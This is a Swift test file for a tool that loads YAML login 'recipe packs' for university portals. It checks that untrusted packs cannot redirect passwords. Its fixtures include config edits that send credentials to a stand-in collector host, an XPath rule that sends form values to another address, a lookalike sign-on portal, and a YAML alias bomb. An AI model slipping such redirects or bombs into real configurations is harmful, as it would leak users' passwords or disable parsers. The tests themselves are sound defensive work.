import Foundation
import Testing
import UniToolKit
import UniToolTestSupport

/// A recipe pack (`--recipes DIR`) may add, but not silently redefine where a password goes.
@Suite("Recipe packs, portal ids and bounded recipe loading")
struct RecipePackTrustTests {
    /// A pack folder holding a `demo/portal.yaml` that sends the password to another origin too.
    func hostilePack() throws -> (pack: URL, file: URL, content: Data) {
        let pack = FileManager.default.temporaryDirectory.appendingPathComponent("pack-\(UUID().uuidString)")
        let folder = pack.appendingPathComponent("demo")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let original = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
        let hostile = original.replacingOccurrences(
            of: "credentials_may_go_to: [idp]", with: "credentials_may_go_to: [idp, \"https://collector.example\"]")
        #expect(hostile != original)
        let file = folder.appendingPathComponent("portal.yaml")
        try Data(hostile.utf8).write(to: file)
        return (pack, file, Data(hostile.utf8))
    }

    @Test("a pack's portal.yaml that redefines a portal is refused unless trusted, naming both files")
    func redefinitionNeedsTrust() throws {
        let (pack, file, content) = try hostilePack()
        defer { try? FileManager.default.removeItem(at: pack) }
        do {
            _ = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack])
            Issue.record("a redefinition was loaded without trust")
        } catch let error as UniToolError {
            #expect(error.kind == .unsafeRequest)
            #expect(error.message.contains(file.path))
            #expect(error.message.contains("Recipes/demo/portal.yaml"))
            #expect(error.hint?.contains("unitool recipes trust") == true)
        }
        var trust = RecipeTrust()
        trust.trust(portal: "demo", file: file.path, content: content)
        let catalog = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: trust)
        let portal = try catalog.portal("demo")
        #expect(portal.file == file.path)
        #expect(portal.replacedDefinition?.hasSuffix("Recipes/demo/portal.yaml") == true)
        #expect(catalog.replacedPortals["demo"]?.count == 1)
        #expect(portal.declaredCredentialOrigins.contains("https://collector.example"))

        // Trust is for the content: a changed file must be trusted again.
        try Data((String(decoding: content, as: UTF8.self) + "\n# changed\n").utf8).write(to: file)
        #expect { try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: trust) } throws: {
            ($0 as? UniToolError)?.kind == .unsafeRequest
        }
    }

    @Test("the user's own folders may replace a bundled portal; a pack's command for a portal it does not define needs trust")
    func ownFoldersAndNewPortals() throws {
        let (pack, _, _) = try hostilePack()
        defer { try? FileManager.default.removeItem(at: pack) }
        // The same folder as the user's own recipes: allowed, and recorded as a replacement.
        let catalog = try RecipeCatalog(directories: [Fixtures.recipes, pack])
        #expect(catalog.replacedPortals["demo"]?.count == 1)
        // A pack with only a data recipe for demo adds it.
        let commandsOnly = FileManager.default.temporaryDirectory.appendingPathComponent("pack-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: commandsOnly) }
        try FileManager.default.createDirectory(at: commandsOnly.appendingPathComponent("demo"), withIntermediateDirectories: true)
        let grades = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8)
        try Data(grades.replacingOccurrences(of: "command: grades", with: "command: marks").utf8)
            .write(to: commandsOnly.appendingPathComponent("demo/marks.yaml"))
        let refused = try RecipeCatalog(directories: [Fixtures.recipes], packs: [commandsOnly])
        #expect(refused.dataRecipes["demo"]?["marks"] == nil)
        #expect(refused.packFiles[commandsOnly.appendingPathComponent("demo/marks.yaml").path] == false)
        do {
            _ = try refused.recipe(portal: "demo", command: "marks")
            Issue.record("an untrusted pack's command for demo was given out")
        } catch let error as UniToolError {
            #expect(error.kind == .unsafeRequest)
            #expect(error.message.contains("demo/marks.yaml") && error.message.contains("Recipes/demo/portal.yaml"), "\(error)")
            #expect(error.hint?.contains("unitool recipes trust \(commandsOnly.path)") == true, "\(error)")
        }
        var trust = RecipeTrust()
        let marks = commandsOnly.appendingPathComponent("demo/marks.yaml")
        trust.trust(portal: "demo", file: marks.path, content: try Data(contentsOf: marks))
        let added = try RecipeCatalog(directories: [Fixtures.recipes], packs: [commandsOnly], trust: trust)
        #expect(try added.recipe(portal: "demo", command: "marks").command == "marks")
        #expect(try added.portal("demo").replacedDefinition == nil)
        #expect(added.packFiles[marks.path] == true)
    }

    @Test("a pack that redefines a portal, even trusted, needs each of its commands trusted; a pack's own portal brings its commands")
    func redefinitionDoesNotCarryCommands() throws {
        let (pack, file, content) = try hostilePack()
        defer { try? FileManager.default.removeItem(at: pack) }
        let grades = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8)
        let marks = pack.appendingPathComponent("demo/marks.yaml")
        try Data(grades.replacingOccurrences(of: "command: grades", with: "command: marks").utf8).write(to: marks)
        var trust = RecipeTrust()
        trust.trust(portal: "demo", file: file.path, content: content)
        let portalOnly = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: trust)
        #expect(try portalOnly.portal("demo").file == file.path)
        #expect(portalOnly.dataRecipes["demo"]?["marks"] == nil, "a command beside a trusted redefinition is not trusted with it")
        #expect(portalOnly.refusedCommands["demo"]?["marks"]?.file == marks.path)
        let items = try RecipeCatalog.packItems(in: pack, over: [Fixtures.recipes])
        #expect(items.map(\.kind).contains(.command("marks", replaces: nil)), "trust and lint see it too")
        trust.trust(portal: "demo", file: marks.path, content: try Data(contentsOf: marks))
        let both = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: trust)
        #expect(try both.recipe(portal: "demo", command: "marks").file == marks.path)

        // A portal of the pack's own: its commands come with it, marked as the pack's.
        let own = FileManager.default.temporaryDirectory.appendingPathComponent("pack-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: own) }
        try FileManager.default.createDirectory(at: own.appendingPathComponent("mine"), withIntermediateDirectories: true)
        let portal = try String(contentsOf: file, encoding: .utf8).replacingOccurrences(of: "portal: demo\n", with: "portal: mine\n")
        try Data(portal.utf8).write(to: own.appendingPathComponent("mine/portal.yaml"))
        try Data(grades.utf8).write(to: own.appendingPathComponent("mine/grades.yaml"))
        let catalog = try RecipeCatalog(directories: [Fixtures.recipes], packs: [own])
        #expect(try catalog.recipe(portal: "mine", command: "grades").command == "grades")
        #expect(catalog.packFiles[own.appendingPathComponent("mine/grades.yaml").path] == false, "listed as an untrusted pack's")
        #expect(try catalog.portal("mine").untrustedPack == own.path)
    }

    @Test("portal ids are lower-case letters, digits and hyphens; 'demo:totp' is refused everywhere")
    func portalIDs() throws {
        for good in ["demo", "tokyo-tech", "u2", "0x"] { #expect(PortalID.problem(with: good) == nil, "\(good)") }
        for bad in ["demo:totp", "", "-demo", "Demo", "de mo", "demo/..", "dëmo", String(repeating: "a", count: 65)] {
            #expect(PortalID.problem(with: bad) != nil, "\(bad)")
        }
        let catalog = try RecipeCatalog(directories: [Fixtures.recipes])
        #expect { try catalog.portal("demo:totp") } throws: { ($0 as? UniToolError)?.kind == .usage }
        let text = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
            .replacingOccurrences(of: "portal: demo", with: "portal: \"demo:totp\"")
        do {
            _ = try PortalRecipe.load(file: "portal.yaml", text: text)
            Issue.record("a portal id with a colon was accepted")
        } catch let error as UniToolError {
            #expect(error.kind == .recipeInvalid)
            #expect(error.message.contains("portal id"))
        }
    }

    @Test("a stored password goes only to the origins it was stored for")
    func passwordReleaseDecision() {
        let stored = ["http://127.0.0.1:0"]
        #expect(PasswordRelease.decide(storedFor: stored, requestedBy: stored, definitionReplaced: false) == .release)
        #expect(PasswordRelease.decide(storedFor: stored, requestedBy: stored, definitionReplaced: true) == .release)
        #expect(
            PasswordRelease.decide(storedFor: stored, requestedBy: stored + ["https://collector.example"], definitionReplaced: true)
                == .refuse(storedFor: stored))
        #expect(
            PasswordRelease.decide(storedFor: stored, requestedBy: ["https://collector.example"], definitionReplaced: false)
                == .refuse(storedFor: stored))
        #expect(PasswordRelease.decide(storedFor: nil, requestedBy: stored, definitionReplaced: false) == .bind)
        #expect(PasswordRelease.decide(storedFor: nil, requestedBy: stored, definitionReplaced: true) == .refuse(storedFor: nil))
        #expect(PasswordRelease.decide(storedFor: stored, requestedBy: [], definitionReplaced: false) == .refuse(storedFor: stored))
    }

    @Test("a 4 KB YAML alias bomb is refused at once, naming the line")
    func aliasBomb() throws {
        var lines = ["portal: demo", "name: x", "base_url: http://127.0.0.1:0", "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        for level in 1...9 {
            lines.append("a\(level): &a\(level) [" + Array(repeating: "*a\(level - 1)", count: 9).joined(separator: ", ") + "]")
        }
        do {
            _ = try PortalRecipe.load(file: "bomb.yaml", text: lines.joined(separator: "\n"))
            Issue.record("an alias bomb was accepted")
        } catch let error as UniToolError {
            #expect(error.kind == .recipeInvalid)
            #expect(error.message.contains("bomb.yaml:4"), "\(error.message)")
            #expect(error.message.contains("anchors and aliases"))
        }
    }

    @Test("a recipe over 1 MiB is refused before it is parsed")
    func oversizedRecipe() {
        let text = "command: x\n# " + String(repeating: "x", count: 1_100_000) + "\n"
        #expect { try DataRecipe.load(file: "huge.yaml", text: text, portal: "demo") } throws: {
            ($0 as? UniToolError)?.kind == .recipeInvalid
        }
    }

    @Test("a redefinition's login is compared rule by rule: a rule added, changed or removed, and a new start, are named")
    func loginRuleChanges() throws {
        let original = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
        let bundled = try PortalRecipe.load(file: "bundled", text: original)
        #expect(bundled.login.ruleChanges(from: bundled.login).isEmpty, "the same definition changes nothing")
        let edited = original.replacingOccurrences(
            of: "  pages:\n",
            with:
                "  pages:\n    - name: elsewhere\n      when: \"//form\"\n      follow: \"concat('http://127.0.0.10/g?who=', //input/@value)\"\n"
        )
        .replacingOccurrences(
            of: "fill: { j_username: \"{{username}}\", j_password: \"{{password}}\" }", with: "fill: { j_username: \"{{username}}\" }"
        )
        .replacingOccurrences(of: "  start: /home\n", with: "  start: /grades\n")
        #expect(edited != original)
        let changes = try PortalRecipe.load(file: "pack", text: edited).login.ruleChanges(from: bundled.login)
        #expect(changes.contains("adds login rule 'elsewhere'"), "\(changes)")
        #expect(changes.contains("changes login rule 'user id and password'"), "\(changes)")
        #expect(changes.contains("starts at '/grades' (before: '/home')"), "\(changes)")
        let removed = try PortalRecipe.load(file: "pack", text: original).login.ruleChanges(
            from: try PortalRecipe.load(file: "pack", text: edited).login)
        #expect(removed.contains("removes login rule 'elsewhere'"), "\(removed)")
    }

    @Test("the password prompt of an untrusted pack's portal says the pack is not trusted and where the password goes")
    func untrustedPackPrompt() throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let portal = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
            .replacingOccurrences(of: "portal: demo\n", with: "portal: lookalike\n")
            .replacingOccurrences(of: "name: Demo University\n", with: "name: Demo University single sign-on\n")
            .replacingOccurrences(of: "demo: true\n", with: "")
            .replacingOccurrences(of: "http://127.0.0.1:0", with: "https://sso.lookalike.example")
        let pack = try packs.writePack(["lookalike/portal.yaml": portal])
        let untrusted = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack]).portal("lookalike")
        let prompt = untrusted.passwordPrompt(user: "alice")
        #expect(prompt.contains("not trusted") && prompt.contains(pack.lastPathComponent), "\(prompt)")
        #expect(prompt.contains("posted to https://sso.lookalike.example"), "\(prompt)")
        #expect(prompt.hasSuffix(": "))
        let trusted = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack], trust: try DemoServiceBench.trusting([pack]))
        #expect(try trusted.portal("lookalike").passwordPrompt(user: "alice") == "Password for alice on Demo University single sign-on: ")
    }
}
